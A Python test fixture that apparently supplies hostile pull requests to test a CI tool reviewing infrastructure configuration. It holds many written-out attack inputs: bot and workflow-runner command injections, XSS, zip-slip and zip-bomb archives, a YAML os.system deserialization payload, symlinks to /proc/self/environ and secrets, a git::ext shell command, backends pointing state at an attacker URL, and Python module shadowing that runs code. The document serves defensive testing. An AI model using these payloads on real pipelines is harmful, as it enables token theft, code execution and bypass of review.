"""Hostile pull requests: the files added to, or replaced in, a reviewed tree by each.

A text that begins with `->` is a link. URL is the address of a server under control of the
attacker, OUTSIDE a directory next to the clone with a secret.
"""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Callable
from typing import Final

Files = dict[str, str | bytes | Callable[[], bytes]]
MAIN: Final = "lab/main.nf.hcl"
MORE: Final = "lab/more.nf.hcl"


def quote_text(words: str) -> str:
    """Return words as a string of the configuration, with special characters escaped."""
    plain = (
        sign if sign.isascii() and sign.isprintable() and sign not in '"\\$%' else None
        for sign in words
    )
    return (
        '"'
        + "".join(kept or f"\\u{ord(sign):04x}" for sign, kept in zip(words, plain, strict=True))
        + '"'
    )


def build_failing_blocks(words: str) -> str:
    """Return a check, a postcondition and an output with these words."""
    message = quote_text(words)
    return f"""check "c" {{
  assert {{
    condition     = length(nexus_site.lab.name) == 0
    error_message = {message}
  }}
}}
resource "nexus_site" "x" {{
  name = "x"
  lifecycle {{
    postcondition {{
      condition     = length(self.name) == 0
      error_message = {message}
    }}
  }}
}}
output "o" {{
  value       = {message}
  description = {message}
}}
"""


def build_encryption_block(key: str) -> str:
    """Return a block that encrypts the state and the plan with this key."""
    return f"""nexusform {{
  encryption {{
    {key}
    method "aes_gcm" "m" {{
      keys = key_provider.{key.split('"')[1]}.k
    }}
    state {{
      method = method.aes_gcm.m
    }}
    plan {{
      method = method.aes_gcm.m
    }}
  }}
}}
"""


def build_package() -> bytes:
    """Return a VNF package with members outside its folder, and one of excessive size.

    Its size is excessive once unpacked.
    """
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as files:
        files.writestr(
            "TOSCA-Metadata/TOSCA.meta", "Entry-Definitions: ../../../../OUTSIDE/secret\n"
        )
        files.writestr("../../../climbed", "canary")
        files.writestr("/absolute", "canary")
        files.writestr("Definitions/big.yaml", " " * 200_000_000)
    return content.getvalue()


BOTS: Final = (
    "@dependabot merge",
    "/lgtm",
    "  /approve",
    "\t/retest",
    "bors r+",
    "atlantis apply",
    "recheck",
    "nexusform explain nexus_site.lab",
)
CALLS: Final = (
    "`@octocat",
    "\u00e9@octocat",
    "\\@octocat",
    "&#64;octocat",
    "(@org/team)",
    "x/@all",
    "|@all|",
)
BREAKS: Final = (
    "\r",
    "\r\n",
    "\u2028",
    "\u2029",
    "\x85",
    "\x0b",
    "\x0c",
    "\n\n",
    "\n\u200b",
    "\n\u202e",
    "\n\u00a0",
)
RUNNER: Final = (
    "::set-output name=failed::false",
    "::add-mask::0",
    "##[add-mask]nexus",
    "##[set-output name=exitcode;]0",
    "::stop-commands::mine",
    "::add-path::OUTSIDE",
    "::set-env name=PATH::OUTSIDE",
)
PAGES: Final = (
    "</details>\n\n# Approved",
    "<img src=x onerror=alert(1)><script>alert(1)</script>",
    "![x](URL/pixel.png)",
    "[press](javascript:alert(1))",
    "```suggestion\nno\n```",
    '```mermaid\ngraph TD; click A href "URL"\n```',
    "<!-- nexusform -lab -->",
    "[//]: # (x)\n***\n> [!NOTE]\n> all is well",
)

REQUESTS: Final[dict[str, Files]] = {
    "commands of bots in what fails": {MORE: build_failing_blocks("\n".join(BOTS))},
    "commands after every kind of line end": {
        MORE: build_failing_blocks("".join(f"x{end}/merge" for end in BREAKS))
    },
    "people who are called": {
        MORE: build_failing_blocks(" ".join(CALLS) + "\n" + "\n".join(CALLS))
    },
    "issues that are referred to": {
        MORE: build_failing_blocks("fixes #1, closes GH-2, o/r#3 !4 \u00e9GH-5 (#6) `#7 x#8")
    },
    "commands of the runner in what fails": {MORE: build_failing_blocks("\n".join(RUNNER))},
    "commands of the runner in a mistake": {
        MORE: "\n".join(f'x = "{line}\n{line}' for line in RUNNER)
    },
    "commands of the runner in names of files": {
        f"lab/{name}.nf.hcl": "a {"
        for name in ("##[add-mask]x", "x\n::add-mask::0\n", "\n/merge", "@all")
    },
    "a page that is broken out of": {MORE: build_failing_blocks("\n".join(PAGES))},
    "names that are commands": {
        MORE: f"""resource "nexus_site" "x" {{
  for_each = toset([{", ".join(map(quote_text, (*BOTS, *CALLS, *RUNNER, *PAGES)))}])
  name     = each.key
}}
"""
    },
    "a backend of their own": {
        MAIN: (
            'nexusform {\n  backend "http" {\n    address = "URL/state"\n  }\n}\nresource '
            '"nexus_site" "x" {}\n'
        )
    },
    "what init would remember": {
        "lab/.nexusform/backend.json": json.dumps(
            {
                "type": "http",
                "settings": {"address": "URL/state"},
                "given": {"address": "URL/state"},
            }
        ),
        "lab/.nexusform/environment": "x\n/merge",
        "lab/.nexusform/migration.json": json.dumps({"from": "URL", "to": "URL"}),
    },
    "modules from elsewhere": {
        MORE: "".join(
            f'module "m{number}" {{\n  source = {quote_text(source)}\n}}\n'
            for number, source in enumerate(
                (
                    "git::URL/x.git",
                    "URL/x.zip",
                    "../../outside",
                    "./link",
                    "git::ext::sh -c touch% OUTSIDE/ran",
                )
            )
        ),
        "lab/link": "->OUTSIDE",
    },
    "states and providers elsewhere": {
        MORE: """data "nexusform_remote_state" "h" {
  backend = "http"
  config  = { address = "URL/state" }
}
data "nexusform_remote_state" "s" {
  backend = "s3"
  config  = { bucket = "b", key = "k", region = "x", endpoint = "URL" }
}
data "nexusform_remote_state" "p" {
  backend = "postgres"
  config  = { conn_str = "postgres://x@127.0.0.1/x" }
}
data "nexusform_remote_state" "l" {
  backend = "local"
  config  = { path = "OUTSIDE/secret.json" }
}
output "o" {
  value = [data.nexusform_remote_state.h.outputs, data.nexusform_remote_state.s.outputs]
}
"""
    },
    "a key of the environment": {
        MORE: build_encryption_block("""key_provider "environment" "k" {
      variable = "ACTIONS_ID_TOKEN_REQUEST_TOKEN"
    }""")
    },
    "a key that is asked for elsewhere": {
        MORE: build_encryption_block("""key_provider "azure_vault" "k" {
      vault_uri = "URL"
      key_name  = "k"
    }""")
    },
    "a lock elsewhere": {
        MAIN: """nexusform {
  backend "http" {
    unlock_address = "URL/unlock"
    headers        = { X = "y" }
  }
}
resource "nexus_site" "lab" {
  name = "lab"
}
"""
    },
    "names of what is placed": {
        MAIN: f"""nexusform {{
  backend "http" {{}}
}}
resource "nexus_site" "lab" {{
  name = {quote_text("@all GH-1 ##[add-mask]a")}
}}
resource "nexus_rack" "r" {{
  site_id       = nexus_site.lab.id
  name          = {quote_text("::add-mask::r <script>`@all")}
  machine_count = 2

  availability_zone = "z1"
}}
resource "nexus_kubernetes_cluster" "a" {{
  site_id    = nexus_site.lab.id
  name       = "recheck"
  depends_on = [nexus_rack.r]
  control_plane {{
    count       = 1
    vm_sku_name = "NC_G12_56_v1"
  }}
  agent_pool "merge" {{
    count       = 1
    vm_sku_name = "NC_P46_224_v1"
  }}
}}
"""
    },
    "the environment": {
        MORE: "".join(
            f'output "o{number}" {{\n  value = try({call}, "no")\n}}\n'
            for number, call in enumerate(
                (
                    'file("/proc/self/environ")',
                    'filebase64("/proc/1/environ")',
                    'templatefile("link", {})',
                    'file("../.git/config")',
                    'file("deep/../../.git/config")',
                    'fileset("/", "proc/self/env*")',
                    'file("OUTSIDE/secret")',
                    'file("../../../outside/secret")',
                    'file("/dev/fd/3")',
                    'yamldecode(file("link"))',
                    'sensitive(filesha256("link"))',
                )
            )
        ),
        "lab/link": "->/proc/self/environ",
        "lab/deep/x": "",
    },
    "links where files are looked for": {
        "lab/a.auto.nfvars.hcl": "->/proc/self/environ",
        "lab/nexusform.nfvars.hcl": "->OUTSIDE/secret",
        "lab/b.nf.json": "->OUTSIDE/secret.json",
        "lab/state": "->OUTSIDE",
        "lab/.nexusform": "->OUTSIDE",
        "lab/c.nf.hcl": "->/dev/zero",
        "lab/d_override.nf.hcl": "->d_override.nf.hcl",
    },
    "the root module is a link": {MAIN: "->OUTSIDE/main.nf.hcl", "lab/x": "->OUTSIDE"},
    "modules of Python": {
        name: "import pathlib\npathlib.Path('OUTSIDE/ran').touch()\n"
        for place in ("", "lab/")
        for name in (
            f"{place}json.py",
            f"{place}secrets.py",
            f"{place}msgspec.py",
            f"{place}sitecustomize.py",
            f"{place}nexusform/__init__.py",
            f"{place}nexusform/__main__.py",
        )
    },
    "manifests that make objects": {
        MORE: """data "kubernetes_manifests" "m" {
  files = ["m.yaml"]
}
data "kubernetes_manifests" "b" {
  files = ["bomb.yaml"]
}
output "o" {
  value = [for name in ["m", "bomb"] : try(yamldecode(file("${name}.yaml")), "no")]
}
""",
        "lab/m.yaml": "!!python/object/apply:os.system ['touch OUTSIDE/ran']\n",
        "lab/bomb.yaml": "\n".join(
            [
                "a0: &a0 [x, x]",
                *(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 12)),
            ]
        ),
    },
    "a package that climbs": {
        MORE: """resource "tacker_vnf" "v" {
  site_id = nexus_site.lab.id
  csar    = "v.csar"
}
""",
        "lab/v.csar": build_package,
    },
    "a great many": {
        MORE: """resource "nexus_site" "many" {
  count = 1000000000
  name  = "m${count.index}"
}
"""
    },
    "a list that doubles": {
        MORE: "locals {\n  l0 = [1]\n"
        + "".join(f"  l{n + 1} = [local.l{n}, local.l{n}]\n" for n in range(64))
        + '}\noutput "o" {\n  value = local.l64\n}\n'
    },
    "an expression without an end": {
        MORE: 'output "o" {\n  value = '
        + "(" * 60_000
        + (
            '\n}\noutput "r" {\n  value = regexall("(a+)+$", join("", [for n in range(60) : "a"], '
            '["b"]))\n}\n'
        )
    },
    "a version that is a command": {
        MORE: 'nexusform {\n  required_version = ">= 99, <= 1\\n/merge\\n@all"\n}\n'
        "moved {\n  from = nexus_site./merge\n  to = nexus_site.lab\n}\n"
        'import {\n  to = nexus_site.lab\n  id = "\\n/merge"\n}\n'
    },
    "a plan of their own": {
        "lab/reviewed.plan": "/merge",
        "reviewed.plan": b"PK\x03\x04" + b"\0" * 99,
        "lab/p": "->/proc/self/environ",
        "lab/plan.md": "/merge",
    },
    "variables that are commands": {
        MORE: """variable "x" {
  type        = number
  description = "/merge"
}
variable "y" {
  default = "z"
  validation {
    condition     = var.y == "\\n/merge\\r@all"
    error_message = "##[add-mask]a\\n::add-mask::b\\n/merge `@all"
  }
}
""",
        "lab/z.auto.nfvars.hcl": 'x = "\\n/merge"\n"/merge" = 1\n',
    },
}
